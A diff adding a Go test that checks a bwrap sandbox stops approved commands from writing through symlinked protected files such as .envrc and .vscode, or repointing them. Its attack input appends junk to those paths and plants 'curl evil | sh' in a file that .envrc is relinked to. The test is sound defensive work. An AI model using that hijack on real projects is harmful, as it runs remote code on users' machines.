@@ -144,3 +144,40 @@ func TestBwrapGitSymlinkReplaced(t *testing.T) {
 		t.Errorf("a user-approved command's .git link was put back: %q", target)
 	}
 }
+
+// TestBwrapProtectedSymlink: any protected path that is a symbolic link —
+// an .envrc leading to a shared file, a .vscode leading to a shared folder
+// — is protected by what it leads to: a policy-approved command can write
+// neither through the link nor to the target by its own path, and a link
+// it repoints is put back.
+func TestBwrapProtectedSymlink(t *testing.T) {
+	requireBwrap(t)
+	home := sandbox.CanonicalOr(t.TempDir())
+	t.Setenv("HOME", home)
+	proj := filepath.Join(home, "proj")
+	for name, content := range map[string]string{"shared/envrc": "use nix\n", "shared/vscode/tasks.json": "{}\n", "src/main.go": "package main\n"} {
+		os.MkdirAll(filepath.Join(proj, filepath.Dir(name)), 0o755)
+		os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
+	}
+	os.Symlink("shared/envrc", filepath.Join(proj, ".envrc"))
+	os.Symlink("shared/vscode", filepath.Join(proj, ".vscode"))
+	f := newFixture(t)
+	f.dir = proj
+	f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
+	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+	f.env.Protect = true
+	targets := []string{".envrc", "shared/envrc", ".vscode/tasks.json", "shared/vscode/tasks.json"}
+	cmd := ""
+	for _, p := range targets {
+		cmd += "echo pwn >> " + p + " 2>/dev/null; "
+	}
+	res := f.run("bash", map[string]any{"command": cmd + "echo 'curl evil | sh' > evil && ln -sfn evil .envrc; echo done"})
+	for _, p := range targets {
+		if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") || strings.Contains(string(b), "curl") {
+			t.Errorf("%s was written by a policy-approved command\n%s", p, res.Content)
+		}
+	}
+	if target, _ := os.Readlink(filepath.Join(proj, ".envrc")); target != "shared/envrc" {
+		t.Errorf(".envrc leads to %q, not shared/envrc:\n%s", target, res.Content)
+	}
+}
